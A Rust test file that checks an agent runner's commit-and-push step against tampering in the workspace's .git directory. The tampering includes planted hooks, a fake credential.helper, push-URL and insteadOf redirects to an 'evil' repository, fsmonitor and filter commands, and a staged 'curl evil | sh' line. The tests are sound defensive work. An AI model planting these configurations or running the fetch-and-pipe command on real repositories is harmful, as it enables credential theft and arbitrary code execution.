//! What a test command can plant in the workspace's `.git` before the worker commits and
//! pushes (in `local-process` mode it can write there), and that it gains nothing.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;

use agent_runner::demo::sample;
use agent_runner::git::{
    CommitRequest, GitAuthor, GitCredentials, GitRemote, LocalSlotPool, commit_all, prepare_workspace,
    push_branch,
};

const BRANCH: &str = "feature/task-planted-1";

/// Runs the git CLI in `dir` the way a hostile test command would, without the user's config.
fn git(dir: &Path, args: &[&str]) {
    let status = Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .status()
        .unwrap();
    assert!(status.success(), "git {args:?}");
}

fn executable(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// Every trick that makes real git (or a careless libgit2 user) run a program, send the
/// token elsewhere, push elsewhere, or commit files from elsewhere. Each program it would
/// run creates a file in `markers`.
fn plant_everything(workspace: &Path, evil_remote: &Path, elsewhere: &Path, markers: &Path) {
    let hook = |name: &str| format!("#!/bin/sh\ntouch {}/{name}\n", markers.display());
    for name in ["pre-commit", "commit-msg", "post-commit", "pre-push", "reference-transaction"] {
        executable(&workspace.join(".git/hooks").join(name), &hook(name));
        executable(&markers.join("../evil-hooks").join(name), &hook(&format!("hookspath-{name}")));
    }
    let origin = agent_runner::git::origin_url(workspace).unwrap();
    let evil = evil_remote.display().to_string();
    let touch = |what: &str| format!("!touch {}/{what}; echo password=stolen", markers.display());
    let settings = [
        ("core.hooksPath", markers.join("../evil-hooks").display().to_string()),
        ("credential.helper", touch("credential-helper")),
        (&format!("url.{evil}.insteadOf"), origin.clone()),
        (&format!("url.{evil}.pushInsteadOf"), origin),
        ("remote.origin.pushurl", evil.clone()),
        ("core.fsmonitor", format!("touch {}/fsmonitor", markers.display())),
        ("filter.evil.clean", format!("touch {}/filter-clean; cat", markers.display())),
        ("filter.evil.smudge", format!("touch {}/filter-smudge; cat", markers.display())),
        ("core.worktree", elsewhere.display().to_string()),
        ("include.path", markers.join("../included.config").display().to_string()),
    ];
    for (key, value) in &settings {
        git(workspace, &["config", key, value]);
    }
    std::fs::write(workspace.join(".gitattributes"), "* filter=evil\n").unwrap();
}

struct Fixture {
    tmp: tempfile::TempDir,
    origin: PathBuf,
    evil: PathBuf,
}

impl Fixture {
    fn new() -> Fixture {
        let tmp = tempfile::tempdir().unwrap();
        let origin = tmp.path().join("origin.git");
        sample::create_origin(&origin, "main", sample::SAMPLE_FILES).unwrap();
        let evil = tmp.path().join("evil.git");
        git2::Repository::init_bare(&evil).unwrap();
        Fixture { tmp, origin, evil }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.tmp.path().join(name)
    }
}

#[test]
fn planted_hooks_config_and_filters_gain_nothing_on_commit_and_push() {
    let fx = Fixture::new();
    let remote = GitRemote::new(fx.origin.to_str().unwrap(), GitCredentials::anonymous()).unwrap();
    let slot = LocalSlotPool::new(fx.path("slots")).acquire(&remote).unwrap();
    prepare_workspace(&slot.path, &remote, "main", BRANCH).unwrap();
    let (markers, elsewhere) = (fx.path("markers"), fx.path("elsewhere"));
    std::fs::create_dir_all(&markers).unwrap();
    std::fs::create_dir_all(&elsewhere).unwrap();
    std::fs::write(elsewhere.join("host-secret.txt"), "not for the remote\n").unwrap();
    std::fs::write(fx.path("included.config"), "[url \"/dev/null\"]\n\tinsteadOf = /\n").unwrap();
    plant_everything(&slot.path, &fx.evil, &elsewhere, &markers);
    std::fs::write(slot.path.join("feature.txt"), "the agent's work\n").unwrap();

    let author = GitAuthor::default();
    let request = CommitRequest {
        message: "work",
        task_id: "planted-1",
        runner_id: None,
        author: &author,
        remote: None,
        max_file_bytes: agent_runner::workspace_files::DEFAULT_MAX_FILE_BYTES,
    };
    let commit = commit_all(&slot.path, &request).unwrap().unwrap();
    let pushed = push_branch(&slot.path, &remote, BRANCH).unwrap();

    // The work went to the real origin, with the workspace's files and nothing from elsewhere.
    assert_eq!(pushed.commit, commit.id);
    let (head, _) = sample::branch_head(&fx.origin, BRANCH).unwrap().unwrap();
    assert_eq!(head, commit.id);
    assert_eq!(commit.files_changed, [".gitattributes", "feature.txt"]);
    assert_eq!(
        sample::file_at(&fx.origin, &head, "feature.txt").unwrap().as_deref(),
        Some("the agent's work\n")
    );
    assert_eq!(sample::file_at(&fx.origin, &head, "host-secret.txt").unwrap(), None);
    // The attacker's remote received nothing, and no planted program ran.
    assert_eq!(git2::Repository::open_bare(&fx.evil).unwrap().references().unwrap().count(), 0);
    let ran: Vec<String> =
        std::fs::read_dir(&markers).unwrap().map(|e| e.unwrap().file_name().into_string().unwrap()).collect();
    assert_eq!(ran, Vec::<String>::new());
    // What is left is the worker's own minimal config, and no hooks.
    let config = std::fs::read_to_string(slot.path.join(".git/config")).unwrap();
    for planted in
        ["hooksPath", "helper", "insteadOf", "pushurl", "fsmonitor", "filter", "worktree", "include"]
    {
        assert!(!config.contains(planted), "{planted} survived:\n{config}");
    }
    assert_eq!(std::fs::read_dir(slot.path.join(".git/hooks")).unwrap().count(), 0);
}

#[test]
fn index_entries_planted_by_a_test_command_are_not_committed() {
    let fx = Fixture::new();
    let remote = GitRemote::new(fx.origin.to_str().unwrap(), GitCredentials::anonymous()).unwrap();
    let slot = LocalSlotPool::new(fx.path("slots")).acquire(&remote).unwrap();
    prepare_workspace(&slot.path, &remote, "main", BRANCH).unwrap();
    // Stage a file, then delete it from the working tree but keep a second one only in
    // the index under an ignored path: neither is the agent's visible work.
    std::fs::write(slot.path.join(".gitignore"), "hidden/\n").unwrap();
    std::fs::create_dir_all(slot.path.join("hidden")).unwrap();
    std::fs::write(slot.path.join("hidden/payload.sh"), "curl evil | sh\n").unwrap();
    git(&slot.path, &["add", "-f", "hidden/payload.sh"]);
    std::fs::write(slot.path.join("feature.txt"), "work\n").unwrap();

    let author = GitAuthor::default();
    let request = CommitRequest {
        message: "work",
        task_id: "planted-2",
        runner_id: None,
        author: &author,
        remote: None,
        max_file_bytes: agent_runner::workspace_files::DEFAULT_MAX_FILE_BYTES,
    };
    let commit = commit_all(&slot.path, &request).unwrap().unwrap();
    assert_eq!(commit.files_changed, [".gitignore", "feature.txt"]);
}
